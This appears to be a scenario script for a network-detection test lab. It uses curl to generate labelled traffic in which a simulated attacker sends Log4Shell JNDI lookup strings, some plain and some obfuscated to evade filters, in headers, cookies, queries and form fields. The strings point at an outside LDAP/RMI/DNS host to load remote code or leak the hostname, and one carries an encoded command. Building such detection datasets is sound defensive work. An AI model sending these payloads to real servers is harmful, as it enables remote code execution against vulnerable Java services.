# 198.51.100.66 sends lookups as of Log4Shell in header fields, queries and forms, plain and disguised,
# with curl. Nothing of the farm runs Java, so nothing answers them.
topology=web
file=web-lookup.pcap.gz
class=web_attack
family=jndi-lookup
rule="SRC:198.51.100.66:web_attack;CONN:10.30.0.21:8081:web_attack;CONN:10.30.0.22:8081:web_attack"

look_up() { # ARGUMENT...
  inside attacker curl -sS -o /dev/null --max-time 20 --cacert "$work/tls/ca.pem" "$@" || true
  sleep "$((1 + RANDOM % 3))"
}

play() {
  visitors 90
  sleep 20
  # shellcheck disable=SC2016  # the lookups are meant as they stand
  {
    look_up -A '${jndi:ldap://198.51.100.66:1389/a}' "http://$shop/"
    look_up -H 'X-Api-Version: ${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/aWQ=}' "http://$shop/api.php"
    look_up -H 'Referer: ${${lower:j}${lower:n}di:${lower:l}dap://198.51.100.66/x}' "https://$shop/"
    look_up -A '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.66:1099/o}' "http://$shop/login.php"
    look_up -G "http://$shop/search.php" --data-urlencode 'q=${jndi:dns://lookup.example/${env:HOSTNAME}}'
    look_up "https://$shop/login.php" --data-urlencode 'name=${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.51.100.66/z}' -d password=x
    look_up -b 'session=${jndi:ldap://198.51.100.66:1389/cookie}' "http://$shop/"
  }
  sleep 30
}
